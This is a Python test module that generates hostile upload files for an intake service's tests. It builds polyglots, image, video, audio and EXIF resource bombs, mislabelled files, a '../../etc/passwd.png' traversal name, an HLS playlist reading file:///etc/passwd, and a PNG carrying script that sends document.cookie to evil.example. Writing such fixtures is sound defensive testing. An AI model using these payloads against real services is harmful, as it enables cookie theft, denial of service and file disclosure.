"""A corpus of hostile uploads for intake tests.

Every file is generated here (nothing hostile is stored in the repository) and stays small on
disk: the "large" files only *claim* to be large in their headers. Files derived from the real
footage in ``../shared/media`` are left out when that folder is absent.

Use it from tests as ``make_corpus(tmp_dir) -> {kind: path}`` or from a shell as
``python -m tests.corpus OUTDIR``.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path

import av
from PIL import Image

MEDIA = Path(__file__).resolve().parents[2] / "shared" / "media"
CITY_720P = MEDIA / "video" / "city_720p.mp4"

# The name a hostile client can give an upload; intake must never build a path from it.
TRAVERSAL_NAME = "../../etc/passwd.png"

STREAM_BOMB_TRACKS = 10_000
GIF_BOMB_FRAMES = 10_000
MP4_CLAIMED_SAMPLES = 1_000_000_000


# ------------------------------------------------------------------------------ helpers


def _png_bytes(image: Image.Image, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="PNG", **params)
    return buffer.getvalue()


def _jpeg_bytes(size: tuple[int, int] = (640, 480)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(buffer, format="JPEG", quality=80)
    return buffer.getvalue()


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.txt", "not a picture\n" * 50)
        archive.writestr("run.sh", "#!/bin/sh\necho pwned\n")
    return buffer.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def _ebml(element_id: int, payload: bytes) -> bytes:
    """One EBML element: big-endian id, 8-byte size (always valid), payload."""
    ident = element_id.to_bytes((element_id.bit_length() + 7) // 8, "big")
    return ident + bytes([0x01]) + len(payload).to_bytes(7, "big") + payload


def _ebml_uint(element_id: int, value: int) -> bytes:
    return _ebml(element_id, value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big"))


def _tiny_mp4(path: Path, seconds: int = 3) -> Path:
    """A small valid MPEG-4 Part 2 MP4 (320×240, 10 fps), made with PyAV."""
    with av.open(str(path), "w", format="mp4") as out:
        stream = out.add_stream("mpeg4", rate=10)
        stream.width, stream.height, stream.pix_fmt = 320, 240, "yuv420p"
        for i in range(seconds * 10):
            image = Image.new("RGB", (320, 240), (i * 8 % 256, 80, 160))
            frame = av.VideoFrame.from_image(image)  # type: ignore[no-untyped-call]
            frame.pts = i
            frame.time_base = Fraction(1, 10)
            for packet in stream.encode(frame):
                out.mux(packet)
        for packet in stream.encode(None):
            out.mux(packet)
    return path


# ------------------------------------------------------------------------------ makers


def zip_as_png(d: Path) -> Path:
    """A zip archive named ``.png``."""
    path = d / "photo.png"
    path.write_bytes(_zip_bytes())
    return path


def truncated_mp4(d: Path) -> Path | None:
    """The first 5 % of the real 720p clip."""
    if not CITY_720P.is_file():
        return None
    data = CITY_720P.read_bytes()
    path = d / "cut.mp4"
    path.write_bytes(data[: len(data) // 20])
    return path


def jpeg_zip_polyglot(d: Path) -> Path:
    """A valid 640×480 JPEG with a zip archive appended (opens as both)."""
    path = d / "polyglot.jpg"
    path.write_bytes(_jpeg_bytes() + _zip_bytes())
    return path


def png_html_polyglot(d: Path) -> Path:
    """A valid 640×480 PNG followed by an HTML/JavaScript payload after IEND."""
    payload = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script>"
    path = d / "polyglot.png"
    path.write_bytes(_png_bytes(Image.new("RGB", (640, 480), (10, 200, 90))) + payload)
    return path


def png_bomb(d: Path) -> Path:
    """A 20,000×20,000 1-bit PNG (400 Mpx when decoded; a few tens of KB on disk)."""
    path = d / "bomb.png"
    Image.new("1", (20_000, 20_000)).save(path, optimize=True)
    return path


def png_wide(d: Path) -> Path:
    """A real PNG of 100,000×1 px."""
    path = d / "wide.png"
    Image.new("L", (100_000, 1), 128).save(path)
    return path


def png_tall(d: Path) -> Path:
    """A real PNG of 1×65,000 px: a huge side, few pixels."""
    path = d / "tall.png"
    Image.new("L", (1, 65_000), 128).save(path)
    return path


def stream_bomb_mkv(d: Path) -> Path:
    """A hand-crafted Matroska header declaring 10,000 PCM audio tracks (no data)."""
    header = _ebml(
        0x1A45DFA3,
        _ebml_uint(0x4286, 1)  # EBMLVersion
        + _ebml_uint(0x42F7, 1)  # EBMLReadVersion
        + _ebml_uint(0x42F2, 4)  # EBMLMaxIDLength
        + _ebml_uint(0x42F3, 8)  # EBMLMaxSizeLength
        + _ebml(0x4282, b"matroska")  # DocType
        + _ebml_uint(0x4287, 4)  # DocTypeVersion
        + _ebml_uint(0x4285, 2),  # DocTypeReadVersion
    )
    info = _ebml(
        0x1549A966, _ebml_uint(0x2AD7B1, 1_000_000) + _ebml(0x4489, struct.pack(">d", 1000.0))
    )
    audio = _ebml(
        0xE1, _ebml(0xB5, struct.pack(">d", 8000.0)) + _ebml_uint(0x9F, 1) + _ebml_uint(0x6264, 16)
    )
    entries = b"".join(
        _ebml(
            0xAE,
            _ebml_uint(0xD7, n)  # TrackNumber
            + _ebml_uint(0x73C5, n)  # TrackUID
            + _ebml_uint(0x83, 2)  # TrackType: audio
            + _ebml(0x86, b"A_PCM/INT/LIT")  # CodecID
            + audio,
        )
        for n in range(1, STREAM_BOMB_TRACKS + 1)
    )
    # One cluster with a 16-sample block for track 1, so the header is followed by real data.
    block = bytes([0x81]) + b"\x00\x00\x80" + bytes(32)
    cluster = _ebml(0x1F43B675, _ebml_uint(0xE7, 0) + _ebml(0xA3, block))
    segment = _ebml(0x18538067, info + _ebml(0x1654AE6B, entries) + cluster)
    path = d / "streams.mkv"
    path.write_bytes(header + segment)
    return path


def stream_bomb_pyav(d: Path, streams: int = 1_000) -> Path:
    """A real Matroska file written by PyAV with ``streams`` silent PCM tracks, one packet each.

    PyAV 18 / FFmpeg 8 crash (SIGSEGV) writing more than about 1,000 streams, and FFmpeg's
    demuxers stop at 1,000 by default, so this is as many as a real muxer round trip can carry;
    :func:`stream_bomb_mkv` declares 10,000 in a hand-written header.
    """
    path = d / "streams_pyav.mkv"
    with av.open(str(path), "w", format="matroska") as out:
        tracks = [out.add_stream("pcm_s16le", rate=8000, layout="mono") for _ in range(streams)]
        for track in tracks:
            frame = av.AudioFrame(format="s16", layout="mono", samples=8)
            frame.planes[0].update(bytes(16))
            frame.rate, frame.pts, frame.time_base = 8000, 0, Fraction(1, 8000)
            for packet in track.encode(frame):
                out.mux(packet)
        for track in tracks:
            for packet in track.encode(None):
                out.mux(packet)
    return path


def empty(d: Path) -> Path:
    """0 bytes."""
    path = d / "empty.png"
    path.write_bytes(b"")
    return path


def video_as_mp3(d: Path) -> Path:
    """Video bytes (the real 720p MP4, or a tiny generated one) under an ``.mp3`` name."""
    path = d / "song.mp3"
    if CITY_720P.is_file():
        path.write_bytes(CITY_720P.read_bytes())
    else:
        _tiny_mp4(path)
    return path


def wav_hours(d: Path) -> Path:
    """A WAV header claiming ~3 hours of 44.1 kHz stereo (1.9 GB of samples) and no data."""
    rate, channels, bits = 44_100, 2, 16
    data_bytes = 3 * 3600 * rate * channels * bits // 8
    fmt = struct.pack(
        "<HHIIHH", 1, channels, rate, rate * channels * bits // 8, channels * bits // 8, bits
    )
    header = (
        b"RIFF"
        + struct.pack("<I", 36 + data_bytes)
        + b"WAVE"
        + b"fmt "
        + struct.pack("<I", len(fmt))
        + fmt
        + b"data"
        + struct.pack("<I", data_bytes)
    )
    path = d / "long.wav"
    path.write_bytes(header)
    return path


def mp4_sample_bomb(d: Path) -> Path:
    """A small valid MP4 whose moov claims 1e9 samples (stsz and stts patched)."""
    path = _tiny_mp4(d / "samples.mp4")
    data = bytearray(path.read_bytes())
    stsz = data.find(b"stsz")
    # stsz: version/flags (4), sample_size (4), sample_count (4), then the size table.
    struct.pack_into(">II", data, stsz + 8, 0, MP4_CLAIMED_SAMPLES)
    stts = data.find(b"stts")
    # stts: version/flags (4), entry_count (4), then (sample_count, sample_delta) pairs.
    struct.pack_into(">I", data, stts + 12, MP4_CLAIMED_SAMPLES)
    path.write_bytes(bytes(data))
    return path


def random_mov(d: Path) -> Path:
    """64 KiB of (seeded) random bytes named ``.mov``."""
    path = d / "random.mov"
    path.write_bytes(random.Random(20261125).randbytes(64 * 1024))
    return path


def text_png(d: Path) -> Path:
    """A text file named ``.png``."""
    path = d / "notes.png"
    path.write_text("Shot list: wide, medium, close-up.\nNot an image at all.\n" * 20)
    return path


def hls_png(d: Path) -> Path:
    """An HLS playlist named ``.png``: FFmpeg's hls demuxer would open the URLs inside."""
    path = d / "playlist.png"
    path.write_text(
        "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://127.0.0.1:9/secret.ts\n"
        "#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    )
    return path


def gif_frame_bomb(d: Path) -> Path:
    """A 1×1 GIF with 10,000 frames, hand-written (Pillow would merge identical frames)."""
    frame = (
        b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # graphic control: 10 ms
        b"\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00"  # image descriptor 1×1
        b"\x02\x02\x44\x01\x00"  # LZW: clear, pixel 0, end
    )
    data = (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00"  # 1×1, 2-colour global table
        + b"\x00\x00\x00\xff\xff\xff"
        + b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"  # loop forever
        + frame * GIF_BOMB_FRAMES
        + b"\x3b"
    )
    path = d / "frames.gif"
    path.write_bytes(data)
    return path


def jpeg_huge_exif(d: Path) -> Path:
    """A valid 640×480 JPEG with a maximal (64 KiB) EXIF segment whose IFD claims 65,535
    entries and a tag of 1e9 values, plus 16 more maximal APP segments (~1 MB)."""
    jpeg = _jpeg_bytes()
    tiff = b"MM\x00\x2a\x00\x00\x00\x08" + struct.pack(">H", 0xFFFF)
    tiff += struct.pack(">HHII", 0x010E, 2, 1_000_000_000, 0x20)  # ImageDescription
    exif = b"Exif\x00\x00" + tiff
    exif += b"\x00" * (65_533 - len(exif))
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    filler = b"\xff\xed" + struct.pack(">H", 65_535) + b"\x00" * 65_533  # APP13
    path = d / "exif.jpg"
    path.write_bytes(jpeg[:2] + app1 + filler * 16 + jpeg[2:])
    return path


def traversal(d: Path) -> Path:
    """A valid 400×400 PNG; tests upload it under :data:`TRAVERSAL_NAME`."""
    path = d / "traversal.png"
    path.write_bytes(_png_bytes(Image.new("RGB", (400, 400), (30, 60, 90))))
    return path


MAKERS: dict[str, Callable[[Path], Path | None]] = {
    "zip_as_png": zip_as_png,
    "truncated_mp4": truncated_mp4,
    "jpeg_zip_polyglot": jpeg_zip_polyglot,
    "png_html_polyglot": png_html_polyglot,
    "png_bomb": png_bomb,
    "png_wide": png_wide,
    "png_tall": png_tall,
    "stream_bomb_mkv": stream_bomb_mkv,
    "stream_bomb_pyav": stream_bomb_pyav,
    "empty": empty,
    "video_as_mp3": video_as_mp3,
    "wav_hours": wav_hours,
    "mp4_sample_bomb": mp4_sample_bomb,
    "random_mov": random_mov,
    "text_png": text_png,
    "hls_png": hls_png,
    "gif_frame_bomb": gif_frame_bomb,
    "jpeg_huge_exif": jpeg_huge_exif,
    "traversal": traversal,
}


def make_corpus(directory: Path) -> dict[str, Path]:
    """Write every hostile file into ``directory``; return ``{kind: path}``.

    Kinds derived from ``../shared/media`` are missing from the result when it is absent.
    """
    directory.mkdir(parents=True, exist_ok=True)
    made: dict[str, Path] = {}
    for kind, maker in MAKERS.items():
        path = maker(directory)
        if path is not None:
            made[kind] = path
    return made


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.corpus OUTDIR", file=sys.stderr)
        return 2
    for kind, path in make_corpus(Path(argv[0])).items():
        print(f"{kind:20} {path.stat().st_size:>10,} B  {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
